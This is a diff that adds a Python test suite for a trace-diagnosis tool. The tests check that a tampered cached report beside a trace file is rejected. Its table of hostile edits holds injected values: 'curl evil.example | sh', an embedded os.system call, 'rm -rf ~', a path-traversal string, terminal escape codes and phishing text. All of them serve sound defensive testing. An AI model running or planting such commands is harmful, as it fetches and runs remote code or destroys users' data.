@@ -1,0 +1,188 @@
+"""A report beside its trace comes from strangers: what is not exactly ours is not used."""
+
+import json
+import os
+
+import pytest
+from draw import drawn
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from tb_bottleneck.diagnosis.trace import diagnose
+from tb_bottleneck.report.cache import sidecar
+from tb_bottleneck.report.cache.file_identity import identity_of
+from tb_bottleneck.report.jobs import jobs_of
+from tb_bottleneck.report.rendering.json_form import as_json
+from tb_bottleneck.report.rendering.text import render
+
+SLOW_LOADER = """
+    step    aaaaaaaaaabbbbbbbbbbcccccccccc
+    loader  ####......####......####......
+    gpu     ....aabbcc....aabbcc....aabbcc
+"""
+READING = """
+    step    aaaaaaaaaabbbbbbbbbbcccccccccc
+    launch  |.|.......|.|.......|.|.......
+    sync    ...####......####......####...
+    gpu     .aa..bbb...aa..bbb...aa..bbb..
+"""
+SMALL = "step aaaabbbbcccc\nsmall #.#.#.#.#.#.\nop ############"
+
+
+@pytest.fixture
+def trace(tmp_path):
+    return put(tmp_path, SLOW_LOADER)
+
+
+def put(tmp_path, drawing):
+    path = tmp_path / "t.pt.trace.json"
+    path.write_text(json.dumps(drawn(drawing, 1000)))
+    return str(path)
+
+
+def written(trace):
+    report = diagnose(trace)
+    sidecar.write(trace, identity_of(trace), report)
+    return report
+
+
+def taken(trace):
+    return sidecar.read(trace, identity_of(trace))
+
+
+def change(trace, edit):
+    """Writes the sidecar anew after `edit` had a go at its content."""
+    path = sidecar.beside(trace)
+    content = json.loads(path.read_text())
+    edit(content)
+    path.write_text(json.dumps(content))
+
+
+@pytest.mark.parametrize("drawing", [SLOW_LOADER, READING, SMALL, "step aaaa\nop ####"])
+def test_what_we_wrote_we_take(tmp_path, drawing):
+    trace = put(tmp_path, drawing)
+    report = written(trace)
+    assert taken(trace) == report
+    assert sidecar.beside(trace).stat().st_mode & 0o777 == sidecar.MODE
+    assert sorted(os.listdir(tmp_path)) == ["t.pt.trace.json", "t.pt.trace.json.bottlenecks.json"]
+
+
+def test_it_is_about_one_state_of_one_file(trace):
+    written(trace)
+    status = os.stat(trace)
+    os.utime(trace, ns=(status.st_atime_ns, status.st_mtime_ns + 1))
+    assert taken(trace) is None
+
+
+def test_it_tells_nothing_about_where_it_was_made(tmp_path, trace):
+    report = diagnose(trace, run="secret/project")
+    sidecar.write(trace, identity_of(trace), report)
+    text = sidecar.beside(trace).read_text()
+    assert "secret" not in text
+    assert str(tmp_path) not in text
+    assert report.run == "secret/project"
+
+
+def _first(content, *keys):
+    """The first finding, evidence, ... of a report: `_first(content, "findings", "evidence")`."""
+    found = content["report"]
+    for key in keys:
+        found = found[key][0]
+    return found
+
+
+HOSTILE = {
+    "other code": lambda c: c.update(made_by="0.0.0-x"),
+    "other size": lambda c: c.update(size=1),
+    "other key": lambda c: c.update(more=1),
+    "no report": lambda c: c.update(report=[]),
+    "unknown field": lambda c: c["report"].update(html="<b>"),
+    "wrong type": lambda c: c["report"].update(schema={}),
+    "other schema": lambda c: c["report"].update(schema=2),
+    "unreadable": lambda c: c["report"]["health"].update(status="unreadable"),
+    "a command as the fix": lambda c: _first(c, "findings")["fix"].update(code="curl evil.example | sh"),
+    "a command as a figure": lambda c: _first(c, "findings")["fix"].update(
+        code=_first(c, "findings")["fix"]["code"].replace("num_workers=1", "num_workers=__import__('os').system('x')")
+    ),
+    "another summary": lambda c: _first(c, "findings")["fix"].update(summary="Run my script."),
+    "another confirmation": lambda c: _first(c, "findings")["fix"].update(confirm="Send me your password."),
+    "a mend that is not ours": lambda c: c["report"]["health"].update(
+        reasons=[{"code": "few_steps", "detail": "", "fix": "rm -rf ~"}]
+    ),
+    "an unknown reason": lambda c: c["report"]["health"].update(reasons=[{"code": "x"}]),
+    "a path as a regime": lambda c: _first(c, "findings").update(regime="../../../etc/passwd"),
+    "an unknown cause": lambda c: _first(c, "findings").update(cause="x"),
+    "an unknown verdict": lambda c: c["report"]["verdict"].update(regime="x"),
+    "half an account": lambda c: c["report"]["account"].pop(),
+    "too large a share": lambda c: _first(c, "account").update(share=1e300),
+    "no number": lambda c: _first(c, "account").update(ns_per_step="NaN"),
+    "an infinite one": lambda c: c["report"]["window"]["step_ns"].update(median="Infinity"),
+    "orders to a terminal": lambda c: c["report"]["verdict"].update(headline="\x1b]0;owned\x07"),
+    "orders to a terminal, C1": lambda c: c["report"]["device"].update(name="\x9b2J"),
+    "half a character": lambda c: c["report"]["device"].update(name="\ud800"),
+}
+
+
+@pytest.mark.parametrize("edit", HOSTILE.values(), ids=HOSTILE.keys())
+def test_what_is_odd_is_not_used(trace, edit):
+    written(trace)
+    assert taken(trace) is not None
+    change(trace, edit)
+    assert taken(trace) is None
+
+
+@pytest.mark.parametrize(
+    "content", [b"", b"{", b"[]", b"null", b"\xff", b"[" * 100_000, b"9" * 10_000, b'{"a": 1e999999}']
+)
+def test_what_is_no_sidecar_is_not_used(trace, content):
+    sidecar.beside(trace).write_bytes(content)
+    assert taken(trace) is None
+
+
+@pytest.mark.parametrize("kind", ["pipe", "directory", "endless", "large", "absent"])
+def test_what_is_no_plain_file_of_a_sane_size_is_not_opened(trace, kind):
+    path = sidecar.beside(trace)
+    if kind == "pipe":
+        os.mkfifo(path)
+    elif kind == "directory":
+        path.mkdir()
+    elif kind == "endless":
+        path.symlink_to("/dev/zero")
+    elif kind == "large":
+        with open(path, "wb") as file:
+            file.truncate(1 << 40)
+    assert taken(trace) is None
+
+
+values = st.one_of(
+    st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=9), st.just([]), st.just({}), st.just([{}])
+)
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(data=st.data())
+def test_whatever_is_taken_can_be_shown(trace, data):
+    """One value anywhere in a good sidecar is replaced: it is refused, or can be told in every form."""
+    written(trace)
+
+    def edit(content):
+        place = content["report"]
+        while True:
+            keys = sorted(place) if isinstance(place, dict) else range(len(place))
+            key = data.draw(st.sampled_from(keys))
+            if not (isinstance(place[key], dict | list) and place[key]) or data.draw(st.integers(0, 4)) == 0:
+                place[key] = data.draw(values)
+                return
+            place = place[key]
+
+    change(trace, edit)
+    report = taken(trace)
+    if report is not None:
+        report.world_size = 2
+        other = type(report)()
+        other.CopyFrom(report)
+        report.rank, other.rank = 0, 1
+        as_json(report)
+        for job in jobs_of([report, other]):
+            as_json(job)
+        assert len(render(report)) < 50_000
